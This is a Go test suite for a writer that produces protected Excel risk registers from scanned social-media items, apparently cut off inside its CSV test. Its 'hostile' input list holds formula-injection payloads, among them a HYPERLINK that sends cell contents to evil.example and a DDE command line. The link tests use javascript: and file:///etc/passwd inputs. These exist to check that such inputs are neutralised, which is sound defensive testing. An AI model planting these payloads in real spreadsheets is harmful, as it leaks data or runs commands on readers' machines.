package workbook

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"flag"
	"fmt"
	"image/jpeg"
	"io"
	"iter"
	"maps"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"pagerisk/classify"
	"pagerisk/classify/picture"
	"pagerisk/report"
	"pagerisk/scanner"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func write(t testing.TB, w Writer, r *report.Register) string {
	t.Helper()
	dir := t.TempDir()
	if err := w.Write(t.Context(), dir, r); err != nil {
		t.Fatal(err)
	}
	return filepath.Join(dir, FileName)
}

func open(t testing.TB, path string) *excelize.File {
	t.Helper()
	f, err := excelize.OpenFile(path, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// readParts unpacks a workbook.
func readParts(t testing.TB, path string) map[string]string {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	out := make(map[string]string)
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(data)
	}
	return out
}

// withFixedRisks makes a register independent of how risks are weighed, which other tests hold.
func withFixedRisks(r *report.Register) {
	rows := r.Rows
	r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
		return func(yield func(*report.Row, error) bool) {
			n := 0
			for row, err := range rows(ctx) {
				if row != nil && row.Risk != nil {
					n++
					row.Risk = &report.Risk{
						View: report.Persons, Heaviest: row.Findings[0].Label, Ground: report.Unknown, Period: report.BeforeTraining,
						Today: report.Rating{Likelihood: 1 + n%4, Severity: 1 + (n/2)%4}, Scenarios: []string{"R-01"}, Exposed: 279,
						Proposed: report.PublishOnly, ProposedWhy: []report.Step{{Key: "ground.why.publish_only", Args: map[string]string{"Code": "K-17"}}},
						Other: &report.Rating{Likelihood: 2, Severity: 4},
					}
				}
				if !yield(row, err) {
					return
				}
			}
		}
	}
}

// TestGolden holds what a person sees and what a program would trip over: sheets, panes, cells with type and format,
// formulas with their results, drop-downs, conditional formats, names. A change of the golden file is to be read.
func TestGolden(t *testing.T) {
	for _, lang := range report.Languages {
		t.Run(lang, func(t *testing.T) {
			got := dump(t, write(t, Writer{}, synthetic(lang, 9, withFixedRisks)))
			if strings.Contains(got, "<no value>") || strings.Contains(got, "[wb.") {
				t.Error("a text has a gap that nobody filled, or is not in the catalogue")
			}
			file := filepath.Join("testdata", "workbook_"+lang+".txt")
			if *update {
				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(strings.Split(string(want), "\n"), strings.Split(got, "\n")); diff != "" {
				t.Errorf("workbook differs from %s (-want +got), rewrite with -update:\n%s", file, diff)
			}
		})
	}
}

// dumped are the sheets whose cells are in the golden file, with the number of rows. What the legal catalogue and the
// scenarios say is held by their own tests.
var dumped = map[string]int{"overview": 60, "findings": 10, "objection": 10, "media": 4, "inventory": 5, "analysis": 40, "audit": 60, "risks": 1, "lists": 60, "meta": 12, "guide": 8}

func dump(t *testing.T, path string) string {
	f := open(t, path)
	var out strings.Builder
	p := func(format string, args ...any) { fmt.Fprintf(&out, format+"\n", args...) }
	texts := report.NewTexts(map[bool]string{true: "de", false: "en"}[f.GetSheetName(0) == "Übersicht"])
	for _, name := range f.GetDefinedName() {
		p("name %s %s = %s", name.Scope, name.Name, name.RefersTo)
	}
	for _, sheet := range f.GetSheetList() {
		visible, _ := f.GetSheetVisible(sheet)
		panes, _ := f.GetPanes(sheet)
		layout, _ := f.GetPageLayout(sheet)
		protection, _ := f.GetSheetProtection(sheet)
		p("sheet %q visible=%v frozen=%v %d/%d paper=%d %s protected=%v filter=%v", sheet, visible, panes.Freeze, panes.XSplit, panes.YSplit, *layout.Size, *layout.Orientation, protection.SelectLockedCells, protection.AutoFilter)
		tables, _ := f.GetTables(sheet)
		for _, table := range tables {
			p("  table %s %s", table.Name, table.Range)
		}
		dvs, _ := f.GetDataValidations(sheet)
		for _, dv := range dvs {
			p("  check %s %s %s %s", dv.Sqref, dv.Type, dv.Formula1, dv.Formula2)
		}
		cfs, _ := f.GetConditionalFormats(sheet)
		for _, area := range slices.Sorted(mapKeys(cfs)) {
			for _, cf := range cfs[area] {
				p("  when %s %s", area, cf.Criteria)
			}
		}
		code := ""
		for c := range dumped {
			if texts.Say("wb.sheet."+c) == sheet {
				code = c
			}
		}
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows[:min(len(rows), dumped[code])] {
			for x, value := range row {
				ref := cell(x+1, y+1)
				formula, _ := f.GetCellFormula(sheet, ref)
				if value == "" && formula == "" {
					continue
				}
				p("  %s %s %s%s", ref, styleOf(f, sheet, ref), strconv.Quote(value), map[bool]string{true: " = " + formula}[formula != ""])
			}
		}
	}
	return out.String()
}

func mapKeys[V any](m map[string]V) iter.Seq[string] {
	return func(yield func(string) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	}
}

// styleOf is the format of a cell in short: open or locked, fill, number format.
func styleOf(f *excelize.File, sheet, ref string) string {
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil || id == 0 {
		return "-"
	}
	st, err := f.GetStyle(id)
	if err != nil {
		return "?"
	}
	s := "locked"
	if st.Protection != nil && !st.Protection.Locked {
		s = "open"
	}
	if len(st.Fill.Color) > 0 {
		s += "," + st.Fill.Color[0]
	}
	if st.CustomNumFmt != nil {
		s += "," + *st.CustomNumFmt
	} else if st.NumFmt != 0 {
		s += "," + strconv.Itoa(st.NumFmt)
	}
	return s
}

// The same register gives the same bytes, whenever and wherever it is written.
func TestSameBytes(t *testing.T) {
	a, err := os.ReadFile(write(t, Writer{}, synthetic("de", 60)))
	if err != nil {
		t.Fatal(err)
	}
	for range 3 { // the order of a map can be the same once
		b, err := os.ReadFile(write(t, Writer{}, synthetic("de", 60)))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(a, b) {
			t.Fatal("two workbooks of one register differ")
		}
	}
}

// worksheetOrder is the order of elements that the schema of worksheets demands.
var worksheetOrder = []string{
	"sheetPr", "dimension", "sheetViews", "sheetFormatPr", "cols", "sheetData", "sheetCalcPr", "sheetProtection", "protectedRanges", "scenarios", "autoFilter",
	"sortState", "dataConsolidate", "customSheetViews", "mergeCells", "phoneticPr", "conditionalFormatting", "dataValidations", "hyperlinks", "printOptions",
	"pageMargins", "pageSetup", "headerFooter", "rowBreaks", "colBreaks", "customProperties", "cellWatches", "ignoredErrors", "smartTags", "drawing",
	"legacyDrawing", "legacyDrawingHF", "picture", "oleObjects", "controls", "webPublishItems", "tableParts", "extLst",
}

func TestXML(t *testing.T) {
	for _, lang := range report.Languages {
		for _, n := range []int{0, 1, 4, 130} {
			t.Run(fmt.Sprintf("%s_%d", lang, n), func(t *testing.T) {
				checkParts(t, readParts(t, write(t, Writer{}, synthetic(lang, n))))
			})
		}
	}
}

// checkParts holds every part of a workbook against what makes Excel repair a file, and against what must not be in it.
func checkParts(t *testing.T, parts map[string]string) {
	t.Helper()
	names := map[string]bool{}
	for _, m := range regexp.MustCompile(`<definedName [^>]*name="([^"]+)"`).FindAllStringSubmatch(parts["xl/workbook.xml"], -1) {
		names[m[1]] = true
	}
	for name, data := range parts {
		if strings.HasSuffix(name, ".xml") || strings.HasSuffix(name, ".rels") {
			dec := xml.NewDecoder(strings.NewReader(data))
			for {
				if _, err := dec.Token(); err == io.EOF {
					break
				} else if err != nil {
					t.Fatalf("%s: %v", name, err)
				}
			}
		}
		if strings.HasSuffix(name, ".bin") || strings.Contains(name, "externalLink") || strings.Contains(name, "vba") {
			t.Errorf("part %q must not be there", name)
		}
		for _, bad := range []string{"[wb.", "[list.", "[returned.", "[risk.", "[scenario.", "<no value>", "/tmp/", "/home/", "/root", "access_token", "EAAB", "TargetMode=\"External\"", "IMAGE(", "WEBSERVICE("} {
			if i := strings.Index(data, bad); i >= 0 {
				t.Errorf("%s holds %q: …%s…", name, bad, data[max(0, i-60):min(len(data), i+60)])
			}
		}
		if strings.HasSuffix(name, ".rels") {
			checkRelations(t, parts, name, data)
		}
		if strings.HasPrefix(name, "xl/worksheets/sheet") {
			checkWorksheet(t, name, data, names)
		}
	}
	for _, m := range regexp.MustCompile(`<sheet name="([^"]*)"`).FindAllStringSubmatch(parts["xl/workbook.xml"], -1) {
		if n := len([]rune(m[1])); n > 31 || strings.ContainsAny(m[1], `:\/?*[]`) || strings.EqualFold(m[1], "history") {
			t.Errorf("sheet name %q", m[1])
		}
	}
	checkTables(t, parts)
}

func checkRelations(t *testing.T, parts map[string]string, name, data string) {
	t.Helper()
	dir := path.Dir(path.Dir(name))
	for _, m := range regexp.MustCompile(`Target="([^"]+)"`).FindAllStringSubmatch(data, -1) {
		target := strings.TrimPrefix(m[1], "/")
		if !strings.HasPrefix(m[1], "/") {
			target = path.Join(dir, m[1])
		}
		if _, ok := parts[target]; !ok {
			t.Errorf("%s: target %q is not there", name, m[1])
		}
	}
}

func checkWorksheet(t *testing.T, name, data string, names map[string]bool) {
	t.Helper()
	dec := xml.NewDecoder(strings.NewReader(data))
	depth, last := 0, -1
	for {
		tok, err := dec.Token()
		if err != nil {
			break
		}
		switch el := tok.(type) {
		case xml.StartElement:
			if depth == 1 {
				at := slices.Index(worksheetOrder, el.Name.Local)
				if at < last {
					t.Errorf("%s: <%s> stands behind <%s>", name, el.Name.Local, worksheetOrder[last])
				}
				last = max(last, at)
			}
			depth++
		case xml.EndElement:
			depth--
		}
	}
	before := 0
	for _, m := range regexp.MustCompile(`<col min="(\d+)" max="(\d+)"`).FindAllStringSubmatch(data, -1) {
		from, _ := strconv.Atoi(m[1])
		to, _ := strconv.Atoi(m[2])
		if from <= before || to < from {
			t.Errorf("%s: column %d comes behind column %d", name, from, before)
		}
		before = to
	}
	for _, m := range regexp.MustCompile(`<c r="([A-Z]+\d+)"[^>]*>(.*?)</c>`).FindAllStringSubmatch(data, -1) {
		if !strings.Contains(m[2], "<f>") {
			continue
		}
		value := regexp.MustCompile(`<v>(.*?)</v>`).FindStringSubmatch(m[2])
		typed := strings.Contains(strings.SplitN(m[0], ">", 2)[0], `t="str"`)
		number := regexp.MustCompile(`<f>(COUNTIFS|SUM\(|[A-Z]+\d+\*|IF\(AND\()`).MatchString(m[2])
		if value == nil && (!typed || number) {
			t.Errorf("%s %s: a formula without a result: %s", name, m[1], m[2])
		}
		if number && typed {
			t.Errorf("%s %s: the result of %s is a text", name, m[1], m[2])
		}
		if strings.Contains(m[2], "#REF") || strings.Contains(m[2], "INDIRECT") || strings.Contains(m[2], "TEXT(") || strings.Contains(m[2], "XLOOKUP") {
			t.Errorf("%s %s: formula %s", name, m[1], m[2])
		}
	}
	for _, m := range regexp.MustCompile(`(?s)<dataValidation .*?</dataValidation>`).FindAllString(data, -1) {
		for attr, most := range map[string]int{"promptTitle": 32, "prompt": 255, "errorTitle": 32, "error": 225} {
			if v := regexp.MustCompile(` ` + attr + `="([^"]*)"`).FindStringSubmatch(m); v != nil && len([]rune(v[1])) > most {
				t.Errorf("%s: %s has %d characters, at most %d: %q", name, attr, len([]rune(v[1])), most, v[1])
			}
		}
		if list := regexp.MustCompile(`type="list".*<formula1>(.*?)</formula1>`).FindStringSubmatch(m); list != nil && !names[list[1]] {
			t.Errorf("%s: drop-down over %q, which is no name", name, list[1])
		}
	}
	for _, m := range regexp.MustCompile(`<odd(?:Header|Footer)>(.*?)</odd`).FindAllStringSubmatch(data, -1) {
		if n := len([]rune(m[1])); n > 255 {
			t.Errorf("%s: head or foot of %d characters", name, n)
		}
	}
	if !strings.Contains(data, "<sheetProtection") {
		t.Errorf("%s is not protected", name)
	}
	if strings.Contains(data, "<hyperlink ") {
		t.Errorf("%s has real hyperlinks", name)
	}
}

// checkTables holds the heads of tables against the cells and each other.
func checkTables(t *testing.T, parts map[string]string) {
	t.Helper()
	for name, data := range parts {
		if !strings.HasPrefix(name, "xl/tables/") {
			continue
		}
		seen := map[string]bool{}
		for _, m := range regexp.MustCompile(`<tableColumn [^>]*name="([^"]*)"`).FindAllStringSubmatch(data, -1) {
			if folded := strings.ToLower(m[1]); seen[folded] || m[1] == "" {
				t.Errorf("%s: head %q twice or empty", name, m[1])
			} else {
				seen[folded] = true
			}
		}
	}
}

// hostile are texts that attack a spreadsheet, the file or the reader.
var hostile = []string{
	`=HYPERLINK("http://evil.example/"&A1,"click")`, `=cmd|'/c calc'!A1`, "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r\n=1+1", "＝1+1", "'=1", `"),HYPERLINK("https://evil.example","`,
	"_x0041_bc", "a\x00b\x01c\x0b\x1f", "\u202egnp.exe", "]]>&<b>&amp;", strings.Repeat("ä", 40_000), strings.Repeat("Zeile\n", 300), "bad \xff\xfe utf8", "👩‍👩‍👧‍👦🏳️‍🌈", "{{.Item}} %d %s", "  vorn und hinten  ",
	"https://www.facebook.com/x?access_token=EAABsecret", "\ufffe\uffff", "&P &N &D", "#REF!",
}

// Whatever stands in a page's texts: it stays text, in every field.
func TestHostile(t *testing.T) {
	r := synthetic("de", len(hostile)*2, func(r *report.Register) {
		rows := r.Rows
		r.Head.Organisation = hostile[0]
		r.Head.Accounts[0].Name = "&P" + hostile[13] + strings.Repeat("x", 300)
		r.Head.Sources = hostile
		r.Rules[0].Why = hostile[0]
		r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
			return func(yield func(*report.Row, error) bool) {
				i := 0
				for row, err := range rows(ctx) {
					s := hostile[i%len(hostile)]
					i++
					it := row.Item
					it.Text, it.Album, it.Place, it.Account, it.Link, it.Permalink = s, s, s, s, s, s
					it.Tags = []string{s, s}
					it.Origins[0].Where = s
					for j := range it.Media {
						it.Media[j].File, it.Media[j].Alt, it.Media[j].URI = s, s, s
						if row.Facts[j] != nil {
							m := &row.Facts[j].Metadata
							m.Creator, m.Credit, m.Copyright, m.Source, m.Instructions, m.Software, m.Taken = s, s, s, s, s, s, s
							m.Persons = []string{s}
							row.Facts[j].Missing = []string{s}
						}
					}
					row.Decided = map[report.Field]report.Decision{}
					for _, spec := range report.ReviewFields {
						if spec.Kind == report.TextField {
							row.Decided[spec.Field] = report.Decision{Value: s, Reviewer: s, Conflict: true, Against: s, AgainstBy: s, At: r.Head.Started}
						}
					}
					for j := range row.Findings {
						row.Findings[j].Evidence = append(row.Findings[j].Evidence, classify.Evidence{Rule: s, Field: "media[0].metadata." + s, Quote: s, Weight: 1})
					}
					if !yield(row, err) {
						return
					}
				}
			}
		}
		r.Notes = func(context.Context) iter.Seq2[scanner.Note, error] {
			return func(yield func(scanner.Note, error) bool) {
				for _, s := range hostile {
					if !yield(scanner.Note{Code: scanner.CodeCorrupt, Where: s, Detail: s}, nil) {
						return
					}
				}
			}
		}
	})
	file := write(t, Writer{}, r)
	parts := readParts(t, file)
	for name, data := range parts {
		if !strings.HasPrefix(name, "xl/worksheets/sheet") {
			continue
		}
		for _, m := range regexp.MustCompile(`<f>(.*?)</f>`).FindAllStringSubmatch(data, -1) {
			if strings.Contains(m[1], "evil") || strings.Contains(m[1], "cmd|") || strings.Contains(m[1], "access_token") {
				t.Errorf("%s: outside text in a formula: %s", name, m[1])
			}
		}
		for _, bad := range []string{"\x00", "\x01", "\u202e"} {
			if strings.Contains(data, bad) {
				t.Errorf("%s holds %q", name, bad)
			}
		}
		checkWorksheet(t, name, data, namesOf(parts))
	}
	f := open(t, file)
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x, v := range row {
				if n := len([]rune(v)); n > 32_767 || strings.Count(v, "\n") > 253 {
					t.Errorf("%s %s: %d characters, %d lines", sheet, cell(x+1, y+1), n, strings.Count(v, "\n"))
				}
			}
		}
	}
	ret, err := Read(file)
	if err != nil {
		t.Fatal(err)
	}
	if ret.Altered > 0 {
		t.Errorf("%d rows count as altered although nobody touched them", ret.Altered)
	}
}

func namesOf(parts map[string]string) map[string]bool {
	names := map[string]bool{}
	for _, m := range regexp.MustCompile(`<definedName [^>]*name="([^"]+)"`).FindAllStringSubmatch(parts["xl/workbook.xml"], -1) {
		names[m[1]] = true
	}
	return names
}

func TestSafeLink(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"https://www.facebook.com/page/posts/1", "https://www.facebook.com/page/posts/1"},
		{"https://www.instagram.com/p/Cx/", "https://www.instagram.com/p/Cx/"},
		{"https://www.facebook.com/story.php?story_fbid=1&id=2", "https://www.facebook.com/story.php?story_fbid=1&id=2"},
		{"http://www.facebook.com/page", ""},
		{"https://facebook.com.evil.example/", ""},
		{"https://user:pw@www.facebook.com/", ""},
		{"https://www.facebook.com:8443/", ""},
		{"https://scontent.fbcdn.net/x.jpg?oh=1&oe=2", ""},
		{"https://www.facebook.com/x?access_token=EAAB", ""},
		{"javascript:alert(1)", ""},
		{"file:///etc/passwd", ""},
		{"", ""},
	} {
		if got := safeLink(tt.in); got != tt.want {
			t.Errorf("safeLink(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestClean(t *testing.T) {
	b := &book{t: report.NewTexts("de")}
	for _, tt := range []struct{ in, want string }{
		{"schön 🎉", "schön 🎉"},
		{"a\r\nb\rc", "a\nb\nc"},
		{"a\x00b\x1fc", "a b c"},
		{"x\u202ey", "xy"},
		{"bad \xff", "bad �"},
	} {
		if got := b.clean(tt.in); got != tt.want {
			t.Errorf("clean(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	long := b.clean(strings.Repeat("😀", 20_000))
	if n := len(long); n > 4*16_000+200 || !strings.HasSuffix(long, b.say("cut")) {
		t.Errorf("a text of 40,000 units was cut to %d bytes, ending in %q", n, long[len(long)-40:])
	}
}

// A cell shows the strongest reasons, and at least one of each label.
func TestReasons(t *testing.T) {
	b := &book{t: report.NewTexts("de"), why: map[string]string{"a": "Grund A.", "b": "Grund B."}}
	row := &report.Row{}
	for i, label := range []classify.Label{classify.Employee, classify.Minor, classify.Stock} {
		f := classify.Finding{Label: label, Score: float64(9 - i)}
		for j := range 4 {
			f.Evidence = append(f.Evidence, classify.Evidence{Rule: "a", Field: "text", Quote: fmt.Sprint("Wort ", j), End: 6, Weight: 1})
		}
		row.Findings = append(row.Findings, f)
	}
	row.Findings[0].Evidence[1] = classify.Evidence{Rule: "b", Field: "media[0]", Quote: "3", Weight: 1}
	row.Findings[2].Evidence[0].Weight = -1
	want := `Beschäftigte: Grund A. „Wort 0“ (Text)
– Grund B. 3 Personen (Bild 1)
Minderjährige: Grund A. „Wort 0“ (Text)
– Grund A. „Wort 1“ (Text)
Spricht gegen Stockbild: Grund A. „Wort 0“ (Text)
… und 7 weitere Gründe, siehe items.jsonl`
	if diff := cmp.Diff(want, b.reasons(row)); diff != "" {
		t.Errorf("reasons (-want +got):\n%s", diff)
	}
}

// Below a line that speaks against a label, what speaks for it says so itself.
func TestReasonsAgainst(t *testing.T) {
	b := &book{t: report.NewTexts("de"), why: map[string]string{"a": "Grund A."}}
	row := &report.Row{Findings: []classify.Finding{{Label: classify.Employee, Evidence: []classify.Evidence{
		{Rule: "a", Field: "text", Quote: "eins", End: 4, Weight: 2}, {Rule: "a", Field: "text", Quote: "zwei", End: 4, Weight: -2},
		{Rule: "a", Field: "text", Quote: "drei", End: 4, Weight: 1}, {Rule: "a", Field: "text", Quote: "vier", End: 4, Weight: 1},
	}}}}
	want := `Beschäftigte: Grund A. „eins“ (Text)
Spricht gegen Beschäftigte: Grund A. „zwei“ (Text)
Beschäftigte: Grund A. „drei“ (Text)
– Grund A. „vier“ (Text)`
	if diff := cmp.Diff(want, b.reasons(row)); diff != "" {
		t.Errorf("reasons (-want +got):\n%s", diff)
	}
}

// What goes on paper says why each finding is one, on what ground the item stands, and what law is behind a risk; it can
// be read in its size, and its rows are as high as what is printed in them needs.
func TestPrinted(t *testing.T) {
	path := write(t, Writer{}, synthetic("de", 60, withFixedRisks))
	f := open(t, path)
	areas := map[string][][2]int{} // of columns
	for _, name := range f.GetDefinedName() {
		if name.Name != "_xlnm.Print_Area" {
			continue
		}
		for _, area := range strings.Split(name.RefersTo, ",") {
			from, to, _ := strings.Cut(strings.ReplaceAll(area[strings.LastIndex(area, "!")+1:], "$", ""), ":")
			first, _, err := excelize.CellNameToCoordinates(from)
			if err != nil {
				t.Fatalf("%s: %v", area, err)
			}
			last, _, err := excelize.CellNameToCoordinates(to)
			if err != nil {
				t.Fatalf("%s: %v", area, err)
			}
			areas[name.Scope] = append(areas[name.Scope], [2]int{first, last})
		}
	}
	const widest = 255 // characters across an A4 page: beyond it 10 points become less than 6
	for sheet, heads := range map[string][]string{
		"Befunde": {"Nr.", "Vorschau", "Text (Auszug)", "Befund", "Stufe", "Begründung", "Einwilligung / Lizenz (es gilt)", "Prüfstatus"},
		"Risiken": {"Ursache, Ereignis, Folge", "Stufe heute", "Vorgeschlagene Maßnahme", "Befunde", "Betroffene", "Übliche Rechtsgrundlage",
			"Warum sie nicht bis zum KI-Training reichen kann", "Fundstellen (siehe Methode)", "Bewertungsgrund", "Zuständig", "Entscheidung", "Entschieden am"},
	} {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, head := range heads {
			col := slices.Index(rows[0], head) + 1
			if col == 0 || !slices.ContainsFunc(areas[sheet], func(a [2]int) bool { return a[0] <= col && col <= a[1] }) {
				t.Errorf("%s: %q is not printed", sheet, head)
			}
		}
		for i, a := range areas[sheet] {
			wide := 0.0
			for col := 1; col <= a[1]; col++ {
				if col >= a[0] || i > 0 && col <= 2 { // the frozen ones stand before each further area
					w, err := f.GetColWidth(sheet, colName(col))
					if err != nil {
						t.Fatal(err)
					}
					wide += w
				}
			}
			if wide > widest {
				t.Errorf("%s: printed columns %v are %.1f wide, more than %d", sheet, a, wide, widest)
			}
		}
	}
	rows, err := f.GetRows("Befunde")
	if err != nil {
		t.Fatal(err)
	}
	cols := findingColumns()
	for y, row := range rows[1:] {
		need := float64(previewRow)
		for x, c := range cols[:printedColumns] {
			if c.kind == wrapped && x < len(row) {
				need = height(need, row[x], c.width)
			}
		}
		if got, err := f.GetRowHeight("Befunde", y+2); err != nil || got > need+0.5 {
			t.Errorf("row %d is %.1f points high (%v), what is printed needs %.1f", y+2, got, err, need)
		}
	}
}

func TestExcerpt(t *testing.T) {
	for _, tt := range []struct {
		in   string
		most int
		want string
	}{
		{"kurz", 10, "kurz"},
		{"Ein  Satz\nmit Umbruch", 100, "Ein Satz mit Umbruch"},
		{"eins zwei drei vier", 12, "eins zwei …"},
		{"abcdefghijklmnop", 5, "abcde …"},
		{"ab👩‍👧x", 4, "ab …"},
	} {
		if got := excerpt(tt.in, tt.most); got != tt.want {
			t.Errorf("excerpt(%q, %d) = %q, want %q", tt.in, tt.most, got, tt.want)
		}
	}
}

// A sheet that is full goes on in a second one that stands right behind it.
func TestFullSheet(t *testing.T) {
	file := write(t, Writer{rows: 20}, synthetic("de", 50))
	list := open(t, file).GetSheetList()
	want := []string{"Inventar", "Inventar (2)", "Inventar (3)"}
	i := slices.Index(list, "Inventar")
	if diff := cmp.Diff(want, list[i:i+3]); diff != "" {
		t.Errorf("sheets (-want +got):\n%s", diff)
	}
	checkParts(t, readParts(t, file))
	f := open(t, file)
	keys := map[string]bool{}
	for _, sheet := range want {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows[1:] {
			keys[row[len(inventoryColumns)-1]] = true
		}
	}
	if len(keys) != 50 {
		t.Errorf("the inventory has %d items, want 50", len(keys))
	}
}

// The second sheet stands behind the first one also when that is larger than what excelize keeps in memory.
func TestFullSheetOnDisk(t *testing.T) {
	r := synthetic("de", 700)
	rows := r.Rows
	r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
		return func(yield func(*report.Row, error) bool) {
			for row, err := range rows(ctx) {
				row.Item.Text = strings.Repeat("Wort ", 6000) // 700 of them are 20 MiB; excelize keeps 16
				if !yield(row, err) {
					return
				}
			}
		}
	}
	list := open(t, write(t, Writer{rows: 600}, r)).GetSheetList()
	want := []string{"Inventar", "Inventar (2)"}
	i := slices.Index(list, "Inventar")
	if diff := cmp.Diff(want, list[i:i+2]); diff != "" {
		t.Errorf("sheets (-want +got):\n%s", diff)
	}
}

// Pictures stay within the row that they belong to, so that a filter hides them with it, and equal ones are stored once.
func TestPreviews(t *testing.T) {
	same := thumbOf(3)
	all := func(r *report.Register) {
		rows := r.Rows
		r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
			return func(yield func(*report.Row, error) bool) {
				i := 0
				for row, err := range rows(ctx) {
					if row.Number > 0 {
						if i++; i%2 == 0 {
							row.Thumb = same
						}
					}
					if !yield(row, err) {
						return
					}
				}
			}
		}
	}
	parts := readParts(t, write(t, Writer{Previews: 20}, synthetic("de", 150, all)))
	pictures, drawing := map[string]string{}, ""
	for name, data := range parts {
		if strings.HasPrefix(name, "xl/media/") {
			pictures[name] = data
			cfg, err := jpeg.DecodeConfig(strings.NewReader(data))
			if err != nil || cfg.Width > previewWidth || cfg.Height > previewHeight || len(data) > 4<<10 {
				t.Errorf("%s: %d × %d, %d bytes, %v", name, cfg.Width, cfg.Height, len(data), err)
			}
		}
		if strings.HasPrefix(name, "xl/drawings/drawing") && strings.Contains(data, "<xdr:pic>") {
			drawing = data
		}
	}
	anchors := regexp.MustCompile(`(?s)<xdr:twoCellAnchor.*?<xdr:row>(\d+)</xdr:row>.*?<xdr:row>(\d+)</xdr:row>.*?</xdr:twoCellAnchor>`).FindAllStringSubmatch(drawing, -1)
	if len(anchors) != 20 {
		t.Errorf("%d pictures, want 20", len(anchors))
	}
	for _, m := range anchors {
		if m[1] != m[2] {
			t.Errorf("a picture reaches from row %s into row %s", m[1], m[2])
		}
		if strings.Contains(m[0], `editAs="oneCell"`) || strings.Contains(m[0], `editAs="absolute"`) || !strings.Contains(m[0], `descr="Vorschau zum Eintrag B-`) {
			t.Errorf("anchor %.300s", m[0])
		}
	}
	if len(pictures) > 12 {
		t.Errorf("%d picture files for 20 pictures of which half are equal", len(pictures))
	}
	blurred := readParts(t, write(t, Writer{Previews: 20}, synthetic("de", 150, all, func(r *report.Register) { r.Head.Redact = true })))
	for name, data := range blurred {
		if !strings.HasPrefix(name, "xl/media/") {
			continue
		}
		for _, plain := range pictures {
			if plain == data {
				t.Errorf("%s is not blurred", name)
			}
		}
		// What is left is a handful of dots, enlarged: neighbours hardly differ.
		img, err := jpeg.Decode(strings.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		for x := 1; x < img.Bounds().Dx(); x++ {
			r0, _, _, _ := img.At(x-1, 30).RGBA()
			r1, _, _, _ := img.At(x, 30).RGBA()
			if d := int(r0>>8) - int(r1>>8); d > 20 || d < -20 {
				t.Errorf("%s: an edge at %d survived the blur (%d)", name, x, d)
			}
		}
	}
}

// The overview's formulas count what people enter; their stored results are what the program counted. Here the formulas
// are computed by excelize and held against the results.
func TestStoredResults(t *testing.T) {
	r := synthetic("de", 120, func(r *report.Register) {
		log := r.Log
		for i := 0; i < 120; i += 6 {
			key := scanner.Key(fmt.Sprintf("fb:%d", 5000+i))
			ds := []report.Decision{{Item: key, Field: report.FieldStatus, Value: []string{"no_risk", "confirmed", "ask"}[i/6%3]}}
			if i%12 == 0 {
				ds = append(ds, report.Decision{Item: key, Field: report.FieldLikelihood, Value: "4"}, report.Decision{Item: key, Field: report.FieldSeverity, Value: "1"},
					report.Decision{Item: key, Field: report.FieldGround, Value: []string{"covers_ai", "none"}[i/12%2]},
					report.Decision{Item: key, Field: report.FieldGroundUntil, Value: []string{"2025-12-31", "2027-12-31", "2026-03-02"}[i/12%3]})
			}
			if err := log.Append(context.Background(), ds); err != nil {
				t.Fatal(err)
			}
		}
	})
	f := open(t, write(t, Writer{Previews: -1}, r))
	compared := 0
	for _, sheet := range []string{"Übersicht", "Auswertung", "Befunde"} {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for y := range rows {
			if sheet == "Befunde" && y > 25 {
				break
			}
			for x, stored := range rows[y] {
				ref := cell(x+1, y+1)
				formula, err := f.GetCellFormula(sheet, ref)
				if err != nil || formula == "" || stored == "" || strings.HasPrefix(formula, "HYPERLINK") || strings.Contains(formula, `"="`) {
					continue
				}
				got, err := f.CalcCellValue(sheet, ref, excelize.Options{RawCellValue: true})
				if err != nil {
					t.Errorf("%s %s: %s: %v", sheet, ref, formula, err)
					continue
				}
				if compared++; got != stored {
					t.Errorf("%s %s: stored %q, computed %q by %s", sheet, ref, stored, got, formula)
				}
			}
		}
	}
	if compared < 100 {
		t.Errorf("only %d formulas were compared", compared)
	}
}

func TestCSV(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"abc", "abc"},
		{"=1+1", "'=1+1"},
		{"a;b", `"a;b"`},
		{"a;=1", `"a;'=1"`},
		{"a\n+1", "\"a\n'+1\""},
		{`sagt "ja"`, `"sagt ""ja"""`},
		{"＝1", "'＝1"},
		{"@x", "'@x"},
		{"1,5", `"1,5"`},
	} {
		if got := csvField(tt.in); got != tt.want {
			t.Errorf("csvField(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	dir := t.TempDir()
